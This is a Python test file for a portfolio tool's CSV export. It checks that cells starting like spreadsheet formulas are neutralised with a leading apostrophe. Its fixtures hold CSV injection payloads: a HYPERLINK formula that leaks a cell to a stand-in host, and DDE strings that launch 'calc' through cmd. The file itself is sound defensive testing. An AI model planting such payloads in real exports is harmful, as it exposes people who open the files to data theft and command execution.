"""CSV formula injection (issue 13 item 4).

`report` and `coverage` write CSV for Excel. A text cell starting with `=`, `+`, `-`, `@`, a tab
or a carriage return is run as a formula when the file is opened (« =HYPERLINK(…) » as an
association name): such cells get a leading apostrophe, as OWASP recommends, while numbers stay
numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from support import MakeWorkspace, placement
from typer.testing import CliRunner

from portfolio.cli import app
from portfolio.report import csv_value

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(,\d+)?$")

ASSOCIATION = '=HYPERLINK("http://example.invalid/?leak="&A1;"clic")'
BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
MODULE = "+cmd|' /C calc'!A0"
REFERENTIEL = "-2+3+cmd|' /C calc'!A0"
BLOCK = "=1+2"
COMPETENCY = "@A1"

HOSTILE = {
    "workspace.yaml": f"""\
        name: Programme test
        associations:
          - {{id: ai-est, name: '{ASSOCIATION}', counselors: [Mme Martin]}}
        settings:
          period: {{start: 2002-09-01, end: 2003-08-31}}
        """,
    "referentiels/menage.yaml": f"""\
        id: menage
        title: "{REFERENTIEL}"
        track: entretien-nettoyage
        certification: {{kind: cqp, rncp: RNCP1234}}
        defaults: {{min_hours: 10, observation: false}}
        blocks:
          - id: b1
            title: "{BLOCK}"
            competencies:
              - {{id: c1, title: "{COMPETENCY}", plain: Je sais laver les sols}}
        tasks:
          - {{id: lavage-sols, label: Laver les sols, evidences: [b1.c1]}}
        """,
    "catalog/ofa.yaml": f"""\
        body: {{id: ofa, name: "{BODY}"}}
        modules:
          - {{id: ofa.sols, title: "{MODULE}", axis: technique, hours: 12,
             competencies: [menage.b1.c1]}}
        """,
    "workers/w-1.yaml": """\
id: w-1
first_name: Ana
last_name: B.
association: ai-est
targets: [menage]
consent: {given: true, date: 2002-09-20}
placements:
"""
    + placement("[lavage-sols]", hours=4),
}


def cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def assert_inert(text: str) -> None:
    """No cell a spreadsheet would run: a cell starting like a formula is a number."""
    risky = [c for c in cells(text) if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
    assert risky == []


@pytest.mark.parametrize(
    ("args", "hostile"),
    [
        (["report", "--format", "csv"], [ASSOCIATION]),
        (["coverage", "ofa", "--format", "csv"], [BLOCK, COMPETENCY, MODULE]),
    ],
)
def test_hostile_titles_are_written_inert(
    make_workspace: MakeWorkspace, args: list[str], hostile: list[str]
) -> None:
    root = make_workspace(HOSTILE)
    result = CliRunner().invoke(app, [*args, "-w", str(root), "--as-of", "2003-06-30"])
    assert result.exit_code == 0, result.stdout + result.stderr
    assert_inert(result.stdout)
    written = cells(result.stdout)
    for text in hostile:
        assert "'" + text in written


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_starting_like_a_formula_gets_a_leading_apostrophe(start: str) -> None:
    assert csv_value(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-2.5, "-2,5"), (-3, "-3"), (0.0, "0"), (12, "12"), (True, "oui"), (None, "")],
)
def test_numbers_stay_numbers_even_negative(value: object, cell: str) -> None:
    assert csv_value(value) == cell


def test_a_negative_number_written_as_text_is_text() -> None:
    assert csv_value("-3") == "'-3"


def test_ordinary_text_is_unchanged() -> None:
    assert csv_value("AI Lyon Est (1+1=2)") == "AI Lyon Est (1+1=2)"
